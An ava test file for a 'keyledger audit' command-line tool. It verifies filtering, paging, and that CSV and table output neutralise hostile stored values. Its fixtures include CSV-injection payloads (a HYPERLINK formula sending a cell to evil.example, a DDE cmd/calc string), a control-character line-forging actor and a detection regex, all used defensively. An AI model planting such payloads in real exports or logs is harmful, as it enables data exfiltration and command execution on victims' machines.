/**
 * `keyledger audit` against a generated ledger whose every event is known (test/support/trail-ledger.ts): each
 * filter and scope returns exactly the events counted here; the CSV, parsed back by csv-parse, holds the same
 * records, with formula-like values neutralised; stored text is escaped on the table; the trail is read page by page
 * (the first page before the rest, one instance's trail from its streams only). Run as an operator on another
 * machine would: no config, the store named with --store.
 */
import test from 'ava';
import * as path from 'node:path';
import { parse } from 'csv-parse/sync';
import * as E from 'fp-ts/Either';
import { trailPages } from '../src/commands/trail';
import { contentStream, type DeploymentId, deploymentStream, type InstallationId, instanceStream } from '../src/domain/ids';
import { unsafeInText } from '../src/domain/text';
import { sha256Hex } from '../src/infra/sha256';
import type { EventStore } from '../src/ports/event-store';
import { cli, type InProcResult } from './support/cli-inproc';
import { openTestStore, tempDir } from './support/fixtures';
import { START_MS, type TrailEvent, writeTrailLedger } from './support/trail-ledger';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTAB-led'];
const ACTORS = ['alice@ops', 'bob@ops', ...FORMULAS, 'carol, "the auditor"', 'eve\n\u001b[31mFORGED-LINE\u202e'];

let file = '';
let events: ReadonlyArray<TrailEvent> = [];
const NO_CONFIG = path.join(tempDir('kl-audit-op'), 'keyledger.config.json');

test.before(async () => {
  file = path.join(tempDir('kl-audit'), 'ledger.db');
  const store = openTestStore(file);
  events = await writeTrailLedger(store, { deployments: 4, instances: 4, restarts: 2, actors: ACTORS });
  await store.close();
});

const audit = (...args: string[]): Promise<InProcResult> => cli('-c', NO_CONFIG, '--store', `sqlite:${file}`, ...args);
const jsonLines = (r: InProcResult): Array<Record<string, unknown>> =>
  r.stdout
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
const at = (minutes: number): string => new Date(START_MS + minutes * 60_000).toISOString();
const idOf = (d: number, i: number): string => events.filter((e) => e.type === 'ConfigRead' && e.deploymentId === `trail-${d}`)[i]!.names[0]!;

test('the whole ledger as JSON lines: every event once, in global order, with who, when, which command, correlation and instance', async (t) => {
  t.timeout(30_000);
  const r = await audit('--json', 'audit', '--all');
  t.is(r.code, 0, r.stderr);
  const rows = jsonLines(r);
  t.is(rows.length, events.length);
  t.deepEqual(
    rows.map((x) => [x['stream'], x['type'], x['actor'], x['correlationId'], x['occurredAt']]),
    events.map((e) => [e.stream, e.type, e.actor, e.correlationId, e.occurredAt]),
  );
  t.deepEqual(
    rows.map((x) => x['installations']),
    events.map((e) => [...new Set(e.names.map((n) => n.toLowerCase()))]),
  );
  t.true(rows.every((x) => x['command'] === 'generated' && typeof x['summary'] === 'string' && typeof x['category'] === 'string'));
});

const COUNTS: ReadonlyArray<[string, ReadonlyArray<string>, (e: TrailEvent) => boolean]> = [
  ['one type', ['--all', '--type', 'InstanceActivated'], (e) => e.type === 'InstanceActivated'],
  [
    'types as a comma list and repeated, any case',
    ['--all', '--type', 'instanceremoved,KeyBackedUp', '--type', 'ConfigRead'],
    (e) => ['InstanceRemoved', 'KeyBackedUp', 'ConfigRead'].includes(e.type),
  ],
  ['an actor', ['--all', '--actor', 'alice@ops'], (e) => e.actor === 'alice@ops'],
  ['an actor that looks like a formula', ['--all', '--actor', FORMULAS[0]!], (e) => e.actor === FORMULAS[0]],
  ['a correlation ID', ['--all', '--correlation-id', 'op-7'], (e) => e.correlationId === 'op-7'],
  ['since (inclusive) and until (exclusive)', ['--all', '--since', at(10), '--until', at(50)], (e) => e.occurredAt >= at(10) && e.occurredAt < at(50)],
  ['a date alone: its first instant', ['--all', '--since', '2026-11-01', '--until', '2026-11-02'], () => true],
  [
    'type, actor and time together',
    ['--all', '--type', 'InstanceActivated', '--actor', 'bob@ops', '--since', at(30)],
    (e) => e.type === 'InstanceActivated' && e.actor === 'bob@ops' && e.occurredAt >= at(30),
  ],
  ['a deployment', ['--deployment', 'trail-2'], (e) => e.deploymentId === 'trail-2'],
  [
    'a deployment and a type',
    ['--deployment', 'trail-1', '--type', 'SymmetricKeyWrapped'],
    (e) => e.deploymentId === 'trail-1' && e.type === 'SymmetricKeyWrapped',
  ],
];

for (const [label, args, expected] of COUNTS)
  test(`audit filters: ${label}`, async (t) => {
    t.timeout(30_000);
    const r = await audit('--json', 'audit', ...args);
    t.is(r.code, 0, r.stderr);
    const want = events.filter(expected);
    t.true(want.length > 0, 'the case selects something');
    t.is(jsonLines(r).length, want.length);
    t.deepEqual(
      jsonLines(r).map((x) => x['occurredAt']),
      want.map((e) => e.occurredAt),
    );
  });

test("one instance's trail: its own stream and the deployment events that name it (its registration, its copy, the joins it sponsored)", async (t) => {
  t.timeout(30_000);
  for (const [d, i] of [
    [1, 0],
    [2, 3],
  ] as const) {
    const id = idOf(d, i);
    const want = events.filter(
      (e) => e.stream === instanceStream(id as InstallationId) || (e.stream.startsWith('keyledger.deployment-') && e.names.includes(id)),
    );
    const r = await audit('--json', 'audit', id);
    t.is(r.code, 0, r.stderr);
    t.deepEqual(
      jsonLines(r).map((x) => [x['stream'], x['type'], x['occurredAt']]),
      want.map((e) => [e.stream, e.type, e.occurredAt]),
    );
    const typed = await audit('--json', 'audit', id, '--type', 'InstanceActivated');
    t.is(jsonLines(typed).length, want.filter((e) => e.type === 'InstanceActivated').length);
  }
});

test('CSV: RFC 4180 parsed back by csv-parse into the same records; formula-like values get a leading quote and stay text', async (t) => {
  t.timeout(30_000);
  const csv = await audit('audit', '--all', '--csv');
  t.is(csv.code, 0, csv.stderr);
  t.true(csv.stdout.includes('\r\n'), 'CRLF record ends');
  const rows = parse(csv.stdout, { columns: true, record_delimiter: ['\r\n'] }) as Array<Record<string, string>>;
  const json = jsonLines(await audit('--json', 'audit', '--all'));
  t.is(rows.length, events.length);
  const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  for (const [n, row] of rows.entries()) {
    const record = json[n]!;
    for (const [column, value] of Object.entries(row)) {
      const v = record[column];
      const text = v === null ? '' : Array.isArray(v) ? v.join(' ') : String(v);
      t.is(value, TRIGGER.test(text) ? `'${text}` : text, `row ${n} column ${column}`);
    }
  }
  const formulaRows = rows.filter((r) => FORMULAS.some((f) => r['actor'] === `'${f}`));
  t.is(formulaRows.length, events.filter((e) => FORMULAS.includes(e.actor)).length, 'every formula-like actor neutralised');
  t.true(
    rows.every((r) => Object.values(r).every((v) => !TRIGGER.test(v))),
    'no cell begins like a formula',
  );
  t.true(
    rows.some((r) => r['actor'] === 'carol, "the auditor"'),
    'commas and quotes survive',
  );
  const header = csv.stdout.split('\r\n')[0];
  t.is(
    header,
    'position,stream,revision,occurredAt,type,category,actor,command,correlationId,causationId,installationId,deploymentId,keyVersion,signedBy,summary',
  );
  const none = await audit('audit', '--all', '--csv', '--type', 'GenesisDeclared');
  t.is(none.stdout, `${header}\r\n`, 'no match: the header only');
});

test('the table escapes stored text (an actor written with control characters cannot forge a line), and says when nothing matches', async (t) => {
  t.timeout(30_000);
  const r = await audit('audit', '--all');
  t.is(r.code, 0);
  const lines = r.stdout.split('\n').filter((l) => l !== '');
  t.is(lines.length, events.length + 1, 'a header and one line per event');
  t.regex(lines[0]!, /^TIME\s+POSITION\s+TYPE\s+ACTOR\s+CORRELATION\s+INSTALLATION\s+KEY\s+SUMMARY$/);
  t.false([...r.stdout].some((ch) => ch !== '\n' && unsafeInText(ch.charCodeAt(0))));
  t.notRegex(r.stdout, /^FORGED-LINE/m);
  t.regex(r.stdout, /eve\\u000a\\u001b\[31m…/, 'escaped, and cut to its column');
  const none = await audit('audit', '--all', '--type', 'GenesisDeclared');
  t.is(none.stdout.split('\n')[1], '(no events match)');
});

test('bad input: an unknown type lists the known ones; scopes and formats that exclude each other; a time that is not one (exit 2)', async (t) => {
  t.timeout(30_000);
  const unknown = await audit('audit', '--all', '--type', 'InstanceActivated,KeyStolen');
  t.is(unknown.code, 2);
  t.regex(unknown.stderr, /--type "KeyStolen" is not an event type\. Known types: ConfigRead, KeyPairIssued, .*SecretReadsCounted/);
  t.is(unknown.stderr.trim().split('\n').length, 1);
  for (const args of [
    ['audit'],
    ['audit', '--all', '--deployment', 'trail-1'],
    ['--json', 'audit', '--all', '--csv'],
    ['audit', '--all', '--since', 'last week'],
  ]) {
    const r = await audit(...args);
    t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
    t.is(r.stderr.trim().split('\n').length, 1);
  }
  t.regex((await audit('audit')).stderr, /name what to audit: keyledger audit <installationId>, --deployment D, or --all/);
});

/** A store that counts what is read from it. */
const counting = (inner: EventStore): EventStore & { readonly streams: Set<string>; readonly alls: () => number } => {
  let alls = 0;
  const streams = new Set<string>();
  return {
    endpoint: inner.endpoint,
    streams,
    alls: () => alls,
    append: (s, e, x) => inner.append(s, e, x),
    readStream: (s, o) => {
      streams.add(s);
      return inner.readStream(s, o);
    },
    readAll: (o) => {
      alls++;
      return inner.readAll(o);
    },
    subscribeToAll: (o) => inner.subscribeToAll(o),
    close: () => inner.close(),
  };
};

test('the trail streams: the first page of the whole ledger comes after one page is read; one instance reads its three streams only', async (t) => {
  t.timeout(30_000);
  const store = counting(openTestStore(file));
  try {
    const pages = trailPages(store, { kind: 'ledger' }, sha256Hex, 20);
    const first = await pages.next();
    t.true(E.isRight(first) && first.right.length === 20);
    t.is(store.alls(), 1, 'one page read, not the ledger');
    let total = E.isRight(first) ? first.right.length : 0;
    for (;;) {
      const p = await pages.next();
      if (E.isLeft(p)) return t.fail(JSON.stringify(p.left));
      if (p.right.length === 0) break;
      total += p.right.length;
    }
    t.is(total, events.length);
    await pages.close();
    const id = idOf(3, 1) as InstallationId;
    const one = trailPages(store, { kind: 'instance', installationId: id }, sha256Hex);
    t.true(E.isRight(await one.next()));
    const d = 'trail-3' as DeploymentId;
    t.deepEqual([...store.streams].sort(), [contentStream(d), deploymentStream(d), instanceStream(id)].sort());
    t.is(store.alls(), Math.ceil((events.length + 1) / 20), 'no $all read for one instance');
  } finally {
    await store.close();
  }
});
